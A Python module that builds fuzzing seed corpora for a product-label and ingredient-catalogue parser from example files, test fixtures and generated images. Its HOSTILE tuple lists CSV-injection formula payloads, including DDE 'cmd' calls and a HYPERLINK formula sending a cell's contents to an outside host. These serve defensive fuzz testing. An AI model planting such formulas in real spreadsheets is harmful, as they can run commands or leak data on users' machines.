"""Seed corpora for the fuzz targets, built from every example and test fixture of the repository.

Each seed is one input as its target reads it (the first byte picks the mode; see each ``target*.py``), at most
``MAX_LEN`` bytes (longer material is cut there: the fuzzer starts from real data of every size up to the limit).
"""

from __future__ import annotations

import csv
import io
import json
import sys
import tempfile
from collections.abc import Callable, Iterable
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent
EXAMPLES = ROOT / "examples"
MAX_LEN = 65_536
LABEL_FILES = (".txt", ".yaml", ".yml", ".json", ".toml")
# Cells a spreadsheet would run as formulas, in every column of a catalogue seed (CSV injection, OWASP).
HOSTILE = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"details")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Water;=1+1",
    "'=1+1",
    "-5",
)


def _label_paths() -> list[Path]:
    dirs = [EXAMPLES / "labels", EXAMPLES / "brand-repo" / "labels"]
    return sorted(p for d in dirs for p in d.rglob("*") if p.is_file() and p.suffix in LABEL_FILES)


def _fixtures() -> Iterable[tuple[str, bytes, str]]:
    """(kind, bytes, suffix) of the byte fixtures of the bad-input tests: "label", "labelfile" and "catalogue"."""
    sys.path.insert(0, str(ROOT / "tests"))
    import test_bad_inputs as t

    for c in t.CASES:
        yield "labelfile" if c.suffix != ".txt" else "label", c.content()[:MAX_LEN], c.suffix
    for _name, data, suffix, _msg in t.CHECK_CASES:
        yield "labelfile", data[:MAX_LEN], suffix
    for _name, data, _rows, _bad in t.BATCH_CASES:
        yield "catalogue", data[:MAX_LEN], ".csv"
    yield "catalogue", b'id,ingredients\n1,"Aqua, Glycerin"\n2,"Aqua\x00, Glycerin"\n', ".csv"
    for data in (b"", b"id,name\n1,x\n", b"\x89PNG\r\n\x1a\n" + bytes(100), b"id,ingredients\n" + bytes(200)):
        yield "catalogue", data, ".csv"


def scan_seeds() -> list[bytes]:
    """``target.py``: every example label in every mode (text, YAML, JSON, TOML, pasted), the fixtures, and all the
    example labels' ingredient lists run together (up to the size limit)."""
    from exolabel.labelfile.read import read_path

    modes = {".yaml": b"\x01", ".yml": b"\x01", ".json": b"\x02", ".toml": b"\x03"}
    out: list[bytes] = []
    texts: list[str] = []
    for path in _label_paths():
        raw = path.read_bytes()
        if path.suffix == ".txt":
            out += [b"\x00" + raw, b"\x04" + raw]
            continue
        out.append(modes[path.suffix] + raw)
        item = read_path(path)
        texts.append(item.text)
        doc = {"product": item.label.product or "x", "ingredients": item.text, "claims": list(item.label.claims)}
        out.append(b"\x02" + json.dumps(doc, ensure_ascii=False).encode())
        out.append(b"\x03" + ("ingredients = " + json.dumps(item.text, ensure_ascii=False) + "\n").encode())
        out.append(b"\x00" + item.text.encode("utf-8"))
        out.append(b"\x00" + item.text.encode("utf-16"))
    out.append(b"\x00" + ", ".join(texts).encode()[: MAX_LEN - 1])
    for kind, data, suffix in _fixtures():
        if kind == "label":
            out.append(b"\x00" + data[: MAX_LEN - 1])
        elif kind == "labelfile" and suffix in modes:
            out.append(modes[suffix] + data[: MAX_LEN - 1])
    return out


def labelfile_seeds() -> list[bytes]:
    """``target_labelfile.py``: every example label file and the label-file fixtures, under their own extension."""
    from target_labelfile import SUFFIXES

    out = [bytes([SUFFIXES.index(p.suffix)]) + p.read_bytes()[: MAX_LEN - 1] for p in _label_paths()]
    for kind, data, suffix in _fixtures():
        if kind in ("label", "labelfile") and suffix in SUFFIXES:
            out.append(bytes([SUFFIXES.index(suffix)]) + data[: MAX_LEN - 1])
    return out


def catalogue_seeds() -> list[bytes]:
    """``target_catalogue.py``: the example catalogue (in pieces under the size limit) and the test helpers' rows in
    every format, a catalogue of formula payloads in every column, and the batch fixtures."""
    from target_catalogue import KINDS

    sys.path.insert(0, str(ROOT / "tests"))
    import batch_helpers

    with (EXAMPLES / "catalogue" / "sample.csv").open(encoding="utf-8", newline="") as fh:
        sample = [{k: v or "" for k, v in r.items() if k is not None} for r in csv.DictReader(fh)]
    hostile = [{"sku": h, "name": h, "ingredients": f"Water, {h}, Glycerin", "claims": h} for h in HOSTILE] + [
        {"sku": "H-1", "name": "ok", "ingredients": h, "claims": ""} for h in HOSTILE
    ]
    tables: list[list[dict[str, str]]] = [batch_helpers.ROWS, hostile, sample[:12], sample[200:], sample[::20]]
    out: list[bytes] = []
    with tempfile.TemporaryDirectory() as tmp:
        for rows in tables:
            fields = list(rows[0])
            for kind in KINDS:
                if kind.startswith("cells"):
                    grid = [fields] + [[str(r.get(f) or "").replace("\t", " ") for f in fields] for r in rows]
                    data = "\n".join("\t".join(r) for r in grid).encode()
                else:
                    path = Path(tmp) / ("c" + kind)
                    _write_rows(path, rows, fields, batch_helpers.write_catalogue)
                    data = path.read_bytes()
                if len(data) < MAX_LEN:
                    out.append(bytes([KINDS.index(kind)]) + data)
    for kind, data, suffix in _fixtures():
        if kind == "catalogue":
            out.append(bytes([KINDS.index(suffix)]) + data[: MAX_LEN - 1])
    return out


def _write_rows(path: Path, rows: list[dict[str, str]], fields: list[str], write: Callable[..., Path]) -> None:
    if path.suffix in (".csv", ".tsv"):
        buf = io.StringIO()
        w = csv.DictWriter(buf, fieldnames=fields, delimiter="\t" if path.suffix == ".tsv" else ",")
        w.writeheader()
        w.writerows(rows)
        path.write_text(buf.getvalue(), encoding="utf-8")
    elif path.suffix == ".jsonl":
        path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    else:
        import batch_helpers

        old = batch_helpers.FIELDS
        batch_helpers.FIELDS = tuple(fields)  # write_catalogue's xlsx writer takes the header from there
        try:
            write(path, rows)
        finally:
            batch_helpers.FIELDS = old


def image_seeds() -> list[bytes]:
    """``target_image.py``: the example photos (those under the size limit), small images made here in every
    format and a few shapes (palette, grey, alpha, EXIF orientation, animated), each under every photo extension,
    and the example labels' ingredient lists as OCR lines under a heading."""
    from target_image import PHOTO_SUFFIXES

    from exolabel.labelfile.read import read_path

    images = [p.read_bytes() for p in sorted((EXAMPLES / "photos").glob("*")) if p.suffix.lower() in PHOTO_SUFFIXES]
    images = [d for d in images if len(d) < MAX_LEN]
    try:
        from PIL import Image
    except ImportError:
        Image = None
    if Image is not None:
        shapes = [Image.new("RGB", (64, 48), "white"), Image.new("L", (33, 7), 128), Image.new("RGBA", (9, 40))]
        shapes.append(shapes[0].convert("P"))
        for img in shapes:
            for fmt in ("PNG", "JPEG", "WEBP"):
                buf = io.BytesIO()
                (img.convert("RGB") if fmt == "JPEG" else img).save(buf, fmt)
                images.append(buf.getvalue())
        buf = io.BytesIO()
        exif = Image.Exif()
        exif[0x0112] = 6  # orientation: rotate 90
        shapes[0].save(buf, "JPEG", exif=exif)
        images.append(buf.getvalue())
        buf = io.BytesIO()
        shapes[0].save(buf, "PNG", save_all=True, append_images=[shapes[1].convert("RGB")])  # an APNG
        images.append(buf.getvalue())
    out = [bytes([i]) + d for d in images for i in range(len(PHOTO_SUFFIXES))]
    for path in _label_paths()[:12]:
        if path.suffix != ".txt":
            text = read_path(path).text
            out.append(b"\x06Front panel\nINGREDIENTS:\n" + text.replace(", ", ",\n   ").encode()[: MAX_LEN - 40])
    return out


SEEDS: dict[str, Callable[[], list[bytes]]] = {
    "scan": scan_seeds,
    "labelfile": labelfile_seeds,
    "catalogue": catalogue_seeds,
    "image": image_seeds,
}
